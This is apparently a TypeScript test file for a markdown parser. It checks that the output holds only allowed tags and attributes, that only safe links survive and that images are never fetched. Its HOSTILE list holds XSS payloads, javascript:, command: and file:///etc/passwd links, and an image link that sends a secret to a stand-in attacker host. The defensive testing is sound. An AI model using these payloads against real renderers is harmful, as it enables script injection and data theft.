import assert from "node:assert/strict";
import { test } from "node:test";
import { isSafeLink, parseMarkdown, TAGS, type Element, type Node } from "../../src/text/markdown";

const ATTRIBUTES = new Set(["href", "start", "align", "language"]);

function nodes(text: string): Element[] {
  const found: Element[] = [];
  const visit = (node: Node): void => {
    if (typeof node === "string") return;
    found.push(node);
    node.children.forEach(visit);
  };
  for (const block of parseMarkdown(text)) visit(block.node);
  return found;
}

function textOf(node: Node): string {
  return typeof node === "string" ? node : node.children.map(textOf).join("");
}

const HOSTILE = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "![x](https://evil.example/?d=secret)",
  "![x](data:image/svg+xml;base64,PHN2Zz4=)",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](command:workbench.action.terminal.new)",
  "[x](vscode://file/etc/passwd)",
  "[x](file:///etc/passwd)",
  "[x](//evil.example/a)",
  "[x](data:text/html,<script>1</script>)",
  "<javascript:alert(1)>",
  "<svg onload=alert(1)>",
  '<a href="javascript:alert(1)">x</a>',
  '[x](https://a.example "onclick=\'alert(1)\'")',
  "```html\n<script>alert(1)</script>\n```",
  "| a |\n|:-:|\n| <b onmouseover=1> |",
  "&lt;script&gt;",
  "[x][y]\n\n[y]: javascript:alert(1)",
];

test("only known elements and attributes come out, and every link is safe, whatever goes in", () => {
  for (const text of HOSTILE) {
    for (const node of nodes(text)) {
      assert.ok((TAGS as readonly string[]).includes(node.tag), `${node.tag} from ${text}`);
      assert.ok(Object.keys(node.attributes).every((name) => ATTRIBUTES.has(name)), text);
      if (node.attributes["href"] !== undefined) assert.ok(isSafeLink(node.attributes["href"]), text);
    }
  }
});

test("nothing is fetched: an image is a link that names it", () => {
  const [paragraph] = parseMarkdown("![logo](https://evil.example/?d=secret)");
  assert.deepEqual(paragraph?.node.children, [{ tag: "a", attributes: { href: "https://evil.example/?d=secret" }, children: ["image: logo"] }]);
});

test("HTML is shown as what it is", () => {
  assert.equal(textOf(parseMarkdown("<script>alert(1)</script>")[0]?.node ?? ""), "<script>alert(1)</script>");
});

test("links: the web, mail and places in the workspace", () => {
  for (const url of ["https://a.example", "http://a.example", "mailto:a@a.example", "src/main.py#L3", "#top"]) assert.ok(isSafeLink(url), url);
  for (const url of ["javascript:1", "command:x", "file:///etc", "//a.example", "vbscript:x", "data:x", "vscode:x", " javascript:1"]) assert.ok(!isSafeLink(url), url);
});

test("a file name is no link", () => {
  assert.deepEqual(nodes("see main.py and setup.sh").map((node) => node.tag), ["p"]);
});

test("structure: lists, code with its language, tables with alignment", () => {
  assert.deepEqual(nodes("1. a\n2. b").map((node) => node.tag), ["ol", "li", "li"]);
  const [fence] = parseMarkdown("```python title\nx = 1\n```");
  assert.deepEqual(fence?.node, { tag: "fence", attributes: { language: "python" }, children: ["x = 1"] });
  const cells = nodes("| a | b |\n|---|--:|\n| 1 | 2 |").filter((node) => node.tag === "td");
  assert.deepEqual(cells.map((cell) => cell.attributes["align"]), [undefined, "right"]);
});

test("blocks know where their source begins", () => {
  const text = "one\n\n👍 two\n\n```\nthree\n```\n";
  assert.deepEqual(parseMarkdown(text).map(({ start }) => text.slice(start).split("\n")[0]), ["one", "👍 two", "```"]);
});

test("whatever is cut off anywhere parses without an error", () => {
  const text = "# T\n\n- a **b** [c](https://d.example)\n  - `e`\n\n> q\n\n| a |\n|---|\n| 1 |\n\n```py\nx\n```\n";
  for (let end = 0; end <= text.length; end++) assert.doesNotThrow(() => parseMarkdown(text.slice(0, end)));
});
